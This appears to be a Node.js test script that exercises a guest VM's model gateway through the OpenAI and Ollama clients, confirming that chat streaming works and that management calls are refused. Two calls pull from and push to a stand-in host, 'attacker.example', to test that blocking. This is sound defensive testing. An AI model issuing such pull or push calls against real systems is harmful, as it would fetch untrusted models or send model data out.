// The real model clients a guest's agent uses, against the model at the URL given (the
// guest's gateway): the OpenAI Node SDK streams a chat completion; ollama-js streams a chat,
// then asks for Ollama's management calls (pull, push, create, delete), each of which must
// be refused. It prints one JSON object: what each call did.
//
//   node clients.mjs http://10.0.2.2:47831 MODEL
import OpenAI from "openai";
import { Ollama } from "ollama";

const [base, model] = process.argv.slice(2);
const out = {};

async function attempt(name, fn) {
  try {
    out[name] = { ok: true, result: await fn() };
  } catch (e) {
    out[name] = { ok: false, status: e.status ?? e.status_code ?? null, error: String(e.message ?? e).slice(0, 300) };
  }
}

const openai = new OpenAI({ baseURL: base + "/v1", apiKey: "not-needed", maxRetries: 0, timeout: 10000 });
await attempt("openai_models", async () => (await openai.models.list()).data.map((m) => m.id));
await attempt("openai_stream", async () => {
  const stream = await openai.chat.completions.create({ model, stream: true, messages: [{ role: "user", content: "hi" }] });
  const parts = [];
  for await (const chunk of stream) parts.push(chunk.choices[0]?.delta?.content ?? "");
  return parts;
});

const ollama = new Ollama({ host: base });
await attempt("ollama_chat", async () => {
  const parts = [];
  for await (const part of await ollama.chat({ model, stream: true, messages: [{ role: "user", content: "hi" }] })) {
    parts.push(part.message.content);
  }
  return parts;
});
await attempt("ollama_pull", () => ollama.pull({ model: "attacker.example:8443/x/y" }));
await attempt("ollama_push", () => ollama.push({ model: "attacker.example/x/y" }));
await attempt("ollama_create", () => ollama.create({ model: "x", from: model }));
await attempt("ollama_delete", () => ollama.delete({ model: "x" }));

console.log(JSON.stringify(out));
